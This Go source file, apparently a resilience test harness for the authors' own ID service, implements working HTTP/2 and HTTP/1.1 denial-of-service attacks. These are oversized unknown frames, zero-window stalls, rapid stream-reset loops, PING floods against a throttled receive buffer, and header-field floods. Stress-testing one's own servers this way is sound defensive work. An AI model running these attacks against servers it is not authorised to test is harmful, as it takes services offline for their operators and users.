package hostile

import (
	"bytes"
	"context"
	"io"
	"net"
	"strconv"
	"strings"
	"syscall"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// A framed is a connection of HTTP/2 that sends what no client library would.
type framed struct {
	*conn
	*http2.Framer
	out   bytes.Buffer // frames that are not sent yet
	head  bytes.Buffer
	pack  *hpack.Encoder
	fresh uint32 // the next stream
}

func frames(c *conn, settings ...http2.Setting) *framed {
	f := &framed{conn: c, fresh: 1}
	f.Framer, f.pack = http2.NewFramer(&f.out, c), hpack.NewEncoder(&f.head)
	f.out.WriteString(http2.ClientPreface)
	_ = f.WriteSettings(settings...)
	return f
}

// ask begins a request with a number of fields beside those that it needs.
func (f *framed) ask(path string, fields int) (stream uint32) {
	f.head.Reset()
	for _, field := range []hpack.HeaderField{{Name: ":method", Value: "GET"}, {Name: ":scheme", Value: "http"}, {Name: ":authority", Value: "x"}, {Name: ":path", Value: path}} {
		_ = f.pack.WriteField(field)
	}
	for i := range fields {
		_ = f.pack.WriteField(hpack.HeaderField{Name: "f" + strconv.Itoa(i), Value: "v"})
	}
	stream = f.fresh
	f.fresh += 2
	_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.head.Bytes(), EndStream: true, EndHeaders: true})
	return stream
}

// send sends the frames so far.
func (f *framed) send() error {
	_, err := f.Write(f.out.Bytes())
	f.out.Reset()
	return err
}

// Write writes to the connection; both embedded types have a method of this kind.
func (f *framed) Write(b []byte) (int, error) { return f.conn.Write(b) }

var framedAttacks = []attack{
	{"HTTP/2 frames of a megabyte", declared, func(ctx context.Context, v *target) {
		v.hold(ctx, v.http, 2000, 50, func(c *conn) {
			f := frames(c)
			_ = f.WriteRawFrame(0x77, 0, 0, make([]byte, 1<<20))
			_ = f.send()
		})
	}},
	{"HTTP/2 answers that wait for a window", declared, func(ctx context.Context, v *target) {
		v.hold(ctx, v.http, 2000, 50, func(c *conn) {
			f := frames(c, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
			for range 250 {
				f.ask("/v1/ids/orders", 90)
			}
			_ = f.send()
		})
	}},
	{"HTTP/2 requests that are reset", declared, func(ctx context.Context, v *target) {
		v.repeat(ctx, 100, func(c *conn) {
			f := frames(c)
			for ctx.Err() == nil {
				for range 100 {
					_ = f.WriteRSTStream(f.ask("/v1/ids/uid?count=100", 0), http2.ErrCodeCancel)
				}
				if f.send() != nil {
					return
				}
			}
		})
	}},
	{"HTTP/2 PINGs whose answers are not read", declared, func(ctx context.Context, v *target) {
		v.hold(ctx, v.http, 2000, 50, func(c *conn) {
			if raw, err := c.Conn.(*net.TCPConn).SyscallConn(); err == nil {
				_ = raw.Control(func(fd uintptr) { _ = syscall.SetsockoptInt(int(fd), syscall.SOL_SOCKET, syscall.SO_RCVBUF, 2304) })
			}
			f := frames(c)
			for range 12_000 {
				_ = f.WritePing(false, [8]byte{})
			}
			_ = f.send()
		})
	}},
	{"HTTP heads of many fields", declared, func(ctx context.Context, v *target) {
		v.hold(ctx, v.http, 12_000, 100, func(c *conn) {
			_, _ = io.WriteString(c, "POST /tinyid/id/nextId HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n"+strings.Repeat("ab:\n", 2400)+"\r\n")
		})
	}},
	{"unfinished HTTP heads of many fields", declared, func(ctx context.Context, v *target) {
		v.hold(ctx, v.http, 12_000, 100, func(c *conn) {
			_, _ = io.WriteString(c, "GET /livez HTTP/1.1\r\nHost: x\r\n"+strings.Repeat("ab:\n", 2400))
		})
	}},
}

// repeat keeps a number of connections, and begins another for each that ends. It reads what the server sends.
func (v *target) repeat(ctx context.Context, connections int, use func(*conn)) {
	done := make(chan struct{})
	for range connections {
		go func() {
			defer func() { done <- struct{}{} }()
			for ctx.Err() == nil {
				c, err := v.connect(hostileAddress, v.http)
				if err != nil {
					time.Sleep(time.Millisecond)
					continue
				}
				stop := context.AfterFunc(ctx, func() { _ = c.Close() })
				go func() { _, _ = io.Copy(io.Discard, c) }()
				use(c)
				stop()
				_ = c.Close()
			}
		}()
	}
	for range connections {
		<-done
	}
}
